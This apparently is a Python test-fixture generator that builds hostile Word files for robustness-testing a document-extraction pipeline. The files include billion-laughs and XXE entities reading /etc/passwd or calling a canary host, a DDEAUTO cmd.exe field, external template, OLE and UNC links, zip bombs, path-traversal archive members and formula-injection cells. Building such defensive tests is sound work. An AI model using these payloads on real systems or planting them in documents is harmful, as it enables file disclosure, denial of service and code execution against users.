"""In: nothing. Out: Word files, each with another trap, for the hostile inbox."""

import re
import zipfile
from collections.abc import Iterator
from io import BytesIO

from samples.broken import encrypted_docx, torn
from samples.forms import make_form
from tests.extractors.wordmake import NAMES, docx, members, p, packed
from tests.hostile.made import CANARY, RELATIONS, UNC, Hostile, by_hand, with_member, zeros, zipped
from tests.hostile.pictures import huge_png

DTD = '<?xml version="1.0"?><!DOCTYPE w:document [{entities}]>'
LAUGHS = '<!ENTITY a "哈">' + "".join(
    f'<!ENTITY {chr(98 + n)} "{"&" + chr(97 + n) + ";" + ("&" + chr(97 + n) + ";") * 9}">' for n in range(9)
)
_PIC = '<w:r><w:drawing><a:blip r:{how}="{rid}"/></w:drawing></w:r>'


def table(rows: str) -> str:
    return f"<w:tbl>{rows}</w:tbl>"


def cell(text: str, properties: str = "") -> str:
    return f"<w:tc><w:tcPr>{properties}</w:tcPr>{p(text)}</w:tc>"


def row(*cells: str) -> str:
    return f"<w:tr>{''.join(cells)}</w:tr>"


def document(body: str, head: str = "") -> bytes:
    """The main part with something before it."""
    return f"{head}<w:document {NAMES}><w:body>{body}</w:body></w:document>".encode()


def swapped(name: str, data: bytes, body: str = "") -> bytes:
    """A .docx with one member's bytes replaced."""
    return packed(members(body or p("正文")) | {name: data})


def files() -> Iterator[Hostile]:
    yield from _tables()
    yield from _markup()
    yield from _packages()
    yield from _active()
    yield from _texts()


def _tables() -> Iterator[Hostile]:
    span = row(cell("姓名", '<w:gridSpan w:val="{}"/>'), cell("甲"))
    yield Hostile("word/两亿列.docx", docx(table(span.format(200_000_000))), "corrupt")
    yield Hostile("word/二十亿列.docx", docx(table(span.format(2_000_000_000))), "corrupt")
    yield Hostile("word/负数列.docx", docx(table(span.format(-5))), "read")
    merged = "".join(
        row(cell("甲", f"<w:vMerge{' w:val=' + chr(34) + 'restart' + chr(34) if n == 0 else ''}/>"), cell(f"第{n}行"))
        for n in range(3000)
    )
    yield Hostile("word/合并三千行.docx", docx(table(merged)), "read")
    yield Hostile("word/孤儿合并.docx", docx(table(row(cell("甲", "<w:vMerge/>"), cell("乙")))), "read")
    wide = "".join(row(*(cell(f"栏{r}{c}") for c in range(60))) for r in range(250))
    yield Hostile("word/一万五千格.docx", docx(table(wide)), "read")
    nested = "<w:tbl><w:tr><w:tc>" * 3000 + p("底") + "</w:tc></w:tr></w:tbl>" * 3000
    yield Hostile("word/表中表三千层.docx", docx(nested), "read|corrupt")
    yield Hostile(
        "word/表中表六十层.docx", docx("<w:tbl><w:tr><w:tc>" * 60 + p("底") + "</w:tc></w:tr></w:tbl>" * 60), "read"
    )
    yield Hostile(
        "word/网格列二百万.docx",
        docx(f"<w:tbl><w:tblGrid>{'<w:gridCol/>' * 200_000}</w:tblGrid>{row(cell('姓名'), cell('甲'))}</w:tbl>"),
        "read|bomb",
    )


def _markup() -> Iterator[Hostile]:
    yield Hostile(
        "word/十亿笑.docx", swapped("word/document.xml", document(p("&j;"), DTD.format(entities=LAUGHS))), "corrupt"
    )
    for name, entity in (
        ("本机文件", '<!ENTITY x SYSTEM "file:///etc/passwd">'),
        ("外部地址", f'<!ENTITY x SYSTEM "{CANARY}/entity">'),
        ("参数实体", f'<!ENTITY % y SYSTEM "{CANARY}/y.dtd"> %y; <!ENTITY x "z">'),
    ):
        part = document(p("&x;"), DTD.format(entities=entity))
        yield Hostile(f"word/外部实体-{name}.docx", swapped("word/document.xml", part), "corrupt")
    doctype = f'<!DOCTYPE w:document SYSTEM "{CANARY}/a.dtd">'
    yield Hostile("word/外部DTD.docx", swapped("word/document.xml", document(p("甲"), doctype)), "corrupt")
    utf16 = document(p("&x;"), DTD.format(entities='<!ENTITY x "藏">')).decode().encode("utf-16")
    yield Hostile("word/UTF16的DTD.docx", swapped("word/document.xml", utf16), "corrupt")
    rels = b'<!DOCTYPE r [<!ENTITY t "word/document.xml">]>' + members(p("甲"))["_rels/.rels"]
    yield Hostile("word/关系里的DTD.docx", swapped("_rels/.rels", rels), "corrupt")
    for name, depth, opening, closing in (
        ("控件", 3000, "<w:sdt><w:sdtContent>", "</w:sdtContent></w:sdt>"),
        ("自定义标记", 3000, "<w:customXml>", "</w:customXml>"),
        ("文本框", 2000, "<w:p><w:r><w:pict><w:txbxContent>", "</w:txbxContent></w:pict></w:r></w:p>"),
        ("备选", 2000, "<mc:AlternateContent><mc:Choice>", "</mc:Choice></mc:AlternateContent>"),
    ):
        yield Hostile(
            f"word/{name}套{depth}层.docx", docx(opening * depth + p("底") + closing * depth), "read|corrupt|empty"
        )
    yield Hostile(
        "word/坏编码.docx", swapped("word/document.xml", b'<?xml version="1.0" encoding="x-none"?><a/>'), "corrupt"
    )
    yield Hostile("word/零字符.docx", swapped("word/document.xml", document(p("甲\0乙"))), "corrupt")
    yield Hostile("word/不是文档的根.docx", swapped("word/document.xml", b"<html/>"), "unsupported")
    styles = f'<w:styles {NAMES}><w:style w:styleId="a"><w:basedOn w:val="b"/></w:style>'
    styles += '<w:style w:styleId="b"><w:basedOn w:val="a"/></w:style></w:styles>'
    looped = p("甲", '<w:pStyle w:val="a"/>')
    yield Hostile(
        "word/样式成环.docx", docx(looped, {"word/styles.xml": styles}, (("s", "styles", "styles.xml"),)), "read"
    )
    headed = p("甲") + '<w:sectPr><w:headerReference r:id="h"/></w:sectPr>'
    yield Hostile("word/页眉是自己.docx", docx(headed, None, (("h", "header", "document.xml"),)), "read|corrupt")
    yield Hostile(
        "word/主体是关系.docx",
        swapped("_rels/.rels", members("")["_rels/.rels"].replace(b"word/document.xml", b"_rels/.rels")),
        "corrupt|unsupported",
    )


def _packages() -> Iterator[Hostile]:
    whole = docx(p("正文"))
    yield Hostile("word/十亿字节的媒体.docx", with_member(whole, b"word/media/a.png", zeros(1024), 1 << 30), "bomb")
    yield Hostile(
        "word/谎报大小的媒体.docx", with_member(whole, b"word/media/a.png", zeros(1024), 10), "read|bomb|corrupt"
    )
    yield Hostile(
        "word/谎报大小的正文.docx",
        with_member(
            packed({k: v for k, v in members("").items() if k != "word/document.xml"}),
            b"word/document.xml",
            zeros(512),
            500,
        ),
        "corrupt|bomb",
    )
    yield Hostile("word/一百万段.docx", docx("<w:p/>" * 1_000_000), "bomb")
    yield Hostile(
        "word/两个正文.docx", zipped([*members(p("甲")).items(), ("word/document.xml", document(p("乙")))]), "corrupt"
    )
    yield Hostile(
        "word/大小写两个正文.docx",
        zipped([*members(p("甲")).items(), ("word/Document.xml", document(p("乙")))]),
        "corrupt",
    )
    yield Hostile(
        "word/三千个零件.docx",
        zipped([*members(p("甲")).items(), *((f"word/m{n}.bin", b"") for n in range(3000))]),
        "bomb",
    )
    overlapping = zipped([*members(p("甲")).items()])
    start = overlapping.index(b"PK\x01\x02")
    central, end = (
        overlapping[start : overlapping.index(b"PK\x05\x06")],
        overlapping[overlapping.index(b"PK\x05\x06") :],
    )
    many = end[:8] + (4 * 60).to_bytes(2, "little") * 2 + (60 * len(central)).to_bytes(4, "little") + end[16:]
    yield Hostile("word/重叠的零件.docx", overlapping[:start] + central * 60 + many, "bomb|corrupt")
    yield Hostile("word/有密码.docx", encrypted_docx(1), "encrypted")
    yield Hostile(
        "word/零件有密码.docx",
        re.sub(rb"(PK\x01\x02.{4})..", lambda m: m[1] + b"\1\0", whole, flags=re.DOTALL),
        "encrypted",
    )
    yield Hostile("word/撕破的.docx", torn(make_form(3).docx), "corrupt")
    yield Hostile("word/改了一字节.docx", whole[:60] + bytes([whole[60] ^ 0xFF]) + whole[61:], "corrupt")
    yield Hostile("word/没有类型表.docx", zipped([("word/document.xml", document(p("甲")))]), "corrupt")
    yield Hostile("word/只有一个空包.docx", zipped([]), "empty|corrupt")
    yield Hostile(
        "word/相对路径零件.docx", zipped([*members(p("甲")).items(), ("../../x.xml", b"x"), ("/etc/x", b"x")]), "read"
    )
    yield Hostile(
        "word/十六进制乱码.docx", by_hand(b"[Content_Types].xml", b"\x00" * 90), "corrupt|unsupported|empty|archive"
    )
    seal = huge_png(30_000, 30_000)
    yield Hostile("word/章是九亿像素.docx", _with_pictures(make_form(5).docx, seal), "read")
    yield Hostile("word/章谎报尺寸.docx", _with_pictures(make_form(6).docx, huge_png(60_000, 60_000, rows=1)), "read")
    yield Hostile("word/章不是图片.docx", _with_pictures(make_form(7).docx, b"\x89PNG\r\n\x1a\n" + b"x" * 50), "read")


def _with_pictures(form: bytes, data: bytes) -> bytes:
    """The form with every picture replaced; one is put in where it has none."""
    with zipfile.ZipFile(BytesIO(form)) as archive:
        content = {name: archive.read(name) for name in archive.namelist()}
    return packed({name: data if "media/" in name else body for name, body in content.items()})


def _active() -> Iterator[Hostile]:
    macros = members(
        p("正文"), {"word/vbaProject.bin": b"\xd0\xcf\x11\xe0Shell"}, (("v", "vbaProject", "vbaProject.bin"),)
    )
    macros["[Content_Types].xml"] = macros["[Content_Types].xml"].replace(
        b"openxmlformats-officedocument.wordprocessingml.document.", b"ms-word.document.macroEnabled."
    )
    yield Hostile("word/带宏.docm", packed(macros), "read")
    settings = f'<w:settings {NAMES}><w:attachedTemplate r:id="r"/></w:settings>'
    rels = RELATIONS.format(kind="attachedTemplate", target=f"{CANARY}/t.dotm")
    template = docx(
        p("甲"),
        {"word/settings.xml": settings, "word/_rels/settings.xml.rels": rels},
        (("s", "settings", "settings.xml"),),
    )
    yield Hostile("word/外部模板.docx", template, "read")
    for name, target in (("网络图片", f"{CANARY}/a.png"), ("共享图片", f"{UNC}/a.png")):
        pictured = docx(p("甲") + f"<w:p>{_PIC.format(how='link', rid='i')}</w:p>", None, (("i", "image", target),))
        yield Hostile(f"word/{name}.docx", pictured, "read")
    link = '<w:p><w:hyperlink r:id="l"><w:r><w:t>点我</w:t></w:r></w:hyperlink></w:p>'
    yield Hostile(
        "word/脚本链接.docx", docx(p("甲") + link, None, (("l", "hyperlink", "javascript://alert(1)"),)), "read"
    )
    ole = '<w:p><w:r><w:object><o:OLEObject Type="Link" ProgID="Package" r:id="o"/></w:object></w:r></w:p>'
    yield Hostile("word/OLE外链.docx", docx(p("甲") + ole, None, (("o", "oleObject", f"{CANARY}/x.exe"),)), "read")
    embedded = docx(
        p("甲") + ole.replace("Link", "Embed"),
        {"word/embeddings/o.bin": b"MZ" + bytes(500)},
        (("o", "oleObject", "embeddings/o.bin"),),
    )
    yield Hostile("word/OLE对象.docx", embedded, "read")
    chunk = {"word/a.html": f'<html><script>x</script><img src="{CANARY}/c.png"></html>'}
    yield Hostile(
        "word/嵌入网页.docx", docx(p("甲") + '<w:altChunk r:id="c"/>', chunk, (("c", "aFChunk", "a.html"),)), "read"
    )
    for name, code in (
        ("DDE", 'DDEAUTO c:\\\\windows\\\\cmd.exe "/k calc"'),
        ("取图", f'INCLUDEPICTURE "{CANARY}/d.png"'),
        ("取文", f'INCLUDETEXT "{UNC}/a.docx"'),
    ):
        quoted = code.replace(chr(34), "&quot;")
        field = f'<w:p><w:fldSimple w:instr="{quoted}"><w:r><w:t>结果</w:t></w:r></w:fldSimple></w:p>'
        yield Hostile(f"word/{name}域.docx", docx(p("甲") + field), "read")


def _texts() -> Iterator[Hostile]:
    """Texts that a careless pattern never ends on; a million characters each, or as many as a form's words."""
    for name, text in (
        ("空格", "姓名" + " " * 400_000 + "x"),
        ("全角空格", "　" * 300_000),
        ("数字", "2022" * 100_000),
        ("年月", "20 年 月 日" * 40_000),
        ("括号", "（" * 200_000),
        ("方框", "□" * 200_000),
        ("下划线", "：" + "_" * 400_000),
        ("冒号", "姓名：" * 100_000),
        ("引号顿号", "“、，。；" * 80_000),
        ("字母", "a" * 1_000_000),
        ("学校", "温州市第一中学" * 60_000),
        ("汉字数", "一二三四五六七八九十百千万" * 30_000),
    ):
        yield Hostile(f"word/长文-{name}.docx", docx(p(text)), "read|bomb")
        form = docx(
            table(row(cell("姓名"), cell(text), cell("性别"), cell("男")) + row(cell("工作单位"), cell(text[:100_000])))
        )
        yield Hostile(f"word/长格-{name}.docx", form, "read|bomb")
    yield Hostile("word/五万段.docx", docx("".join(p(f"第{n}段：姓名{n % 97}") for n in range(50_000))), "read|bomb")
    formulas = "".join(row(cell(f'=HYPERLINK("{CANARY}/{n}")'), cell("@SUM(A1)"), cell("-2+3")) for n in range(40))
    yield Hostile("word/公式.docx", docx(p("=1+1") + table(formulas)), "read")
